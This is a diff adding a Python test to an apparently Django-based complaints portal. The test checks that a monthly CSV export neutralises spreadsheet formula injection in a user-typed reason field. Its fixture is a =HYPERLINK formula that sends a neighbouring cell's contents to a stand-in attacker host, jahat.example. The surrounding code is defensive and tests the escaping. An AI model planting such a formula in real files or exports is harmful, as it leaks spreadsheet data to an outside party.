@@ -395,6 +395,29 @@ def test_the_monthly_csv_lists_each_opening_with_its_reseal(client, handler, sup
     assert not names_reporter(response.content.decode("utf-8-sig"))
 
 
+def test_the_monthly_csv_neutralises_a_reason_a_spreadsheet_would_run(
+    client, handler, supervisor, sealed
+):
+    """The reason is typed by a handler and opened by the supervisor in a spreadsheet: text a
+    spreadsheet would run as a formula arrives neutralised (portal.exports.cell_neutralise)."""
+    formula = '=HYPERLINK("https://jahat.example/?d="&A2,"Klik untuk detail alasan ini")'
+    complaint_seal_open(
+        complaint=sealed, actor=handler, purpose=SealPurpose.CALL_BACK, reason=formula
+    )
+    month = timezone.localtime(SealOpening.objects.get().opened_at)
+    as_user(client, supervisor)
+
+    response = client.get(reverse("complaints_seal_csv"), {"bulan": f"{month:%Y-%m}"})
+
+    cells = [
+        cell
+        for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig")))
+        for cell in row
+    ]
+    assert "'" + formula in cells
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+
 def test_another_month_is_empty_and_a_bad_month_is_404(client, handler, supervisor, sealed):
     opened(sealed, handler)
     last_year = timezone.localdate() - timedelta(days=400)
